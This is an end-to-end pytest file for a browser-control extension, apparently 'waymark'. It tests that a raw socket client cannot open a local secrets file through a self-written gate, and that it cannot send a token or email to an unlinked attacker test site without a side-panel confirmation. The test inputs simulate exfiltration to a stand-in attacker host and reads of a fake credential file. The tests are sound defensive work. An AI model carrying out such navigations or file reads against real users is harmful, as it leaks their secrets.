"""A same-user program allowed on the control socket that skips `waymark mcp` gets no more than
the official client's session would: the tab it opens is judged on the user's saved lists, never
on a gate it wrote itself, and a navigation to a site none of its pages linked to, with data in
its address, is asked about in the side panel first. The authorities are the attacker site's own
request log and the browser's own tab list; the panel's question is the extension's."""

from __future__ import annotations

import asyncio
from typing import Any

import pytest

from tests.e2e.mcp_helpers import SidePanel, allowed_connection
from waymark.host.control_client import HostCallError

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(180)]

CLIENT = "raw-gate-tool"


@pytest.fixture(autouse=True)
def defaults(saved_settings: Any) -> None:
    """The product's defaults: destructive actions and egress ask first, no local files."""
    saved_settings({"confirm_policy": "ask", "allow_domains": [], "block_domains": [], "file_folders": []})


async def _open(connection: Any, url: str, gate: dict[str, Any] | None = None) -> Any:
    params: dict[str, Any] = {"url": url, **({"gate": gate} if gate is not None else {})}
    try:
        return await connection.call("browser.request", {"method": "tabs.open", "params": params}, timeout=30)
    except HostCallError as exc:
        return exc


async def _tab_urls(browser: Any) -> list[str]:
    return [p.url for p in browser.context.pages]


async def test_a_raw_clients_own_gate_does_not_open_a_local_file(browser, tmp_path):
    secret = tmp_path / "secrets.json"
    secret.write_text('{"BANK_PW": "hunter2-fake"}')
    connection = await allowed_connection(browser, CLIENT)
    try:
        opened = await _open(connection, secret.as_uri(), {"file_folders": [str(tmp_path)]})
    finally:
        connection.close()
    assert isinstance(opened, HostCallError) and opened.code == "url_refused", opened
    assert secret.as_uri() not in await _tab_urls(browser)


async def test_a_raw_client_that_sends_no_gate_is_held_to_the_users_allow_list(browser, saved_settings, attacker_site, allowed_site):
    saved_settings({"allow_domains": ["allowed.test"]})
    connection = await allowed_connection(browser, CLIENT)
    try:
        opened = await _open(connection, f"{attacker_site.url}/welcome?token=abc")
    finally:
        connection.close()
    assert isinstance(opened, HostCallError) and opened.code == "url_refused", opened
    assert attacker_site.log == [], "the request reached the attacker"


async def _client_on(browser: Any, allowed_site: Any, body: str) -> tuple[Any, int]:
    allowed_site.pages["/start.html"] = f"<!doctype html><title>Start</title><main><h1>Start</h1>{body}</main>"
    connection = await allowed_connection(browser, CLIENT)
    opened = await connection.call("browser.request", {"method": "tabs.open", "params": {"url": f"{allowed_site.url}/start.html"}}, timeout=30)
    return connection, opened["data"]["tab_id"]


async def test_a_raw_clients_navigation_to_an_unlinked_site_with_data_is_asked_and_a_no_sends_nothing(browser, attacker_site, allowed_site):
    connection, tab = await _client_on(browser, allowed_site, "<p>Nothing links out.</p>")
    panel = await SidePanel.open(browser)
    try:
        going = asyncio.ensure_future(connection.call(
            "act", {"tab_id": tab, "action": {"type": "navigate", "url": f"{attacker_site.url}/c?email=ada@example.com"}}, timeout=60))
        question = panel.page.get_by_role("alertdialog", name=f"Confirm for {CLIENT}")
        await question.wait_for(timeout=30_000)
        assert "did not start on" in await question.inner_text()
        await question.get_by_role("button", name="Decline").click()
        with pytest.raises(HostCallError) as refused:
            await going
    finally:
        await panel.close()
        connection.close()
    assert refused.value.code == "egress_declined"
    assert attacker_site.log == [], "the declined address was opened anyway"


async def test_a_raw_clients_navigation_to_a_site_its_page_links_to_is_not_asked(browser, attacker_site, allowed_site):
    connection, tab = await _client_on(browser, allowed_site, f'<a href="{attacker_site.url}/partner">Our partner</a>')
    try:
        result = await connection.call(
            "act", {"tab_id": tab, "action": {"type": "navigate", "url": f"{attacker_site.url}/partner?ref=start"}}, timeout=60)
    finally:
        connection.close()
    assert result["ok"] is True, result
    assert [hit.path for hit in attacker_site.log][:1] == ["/partner"]
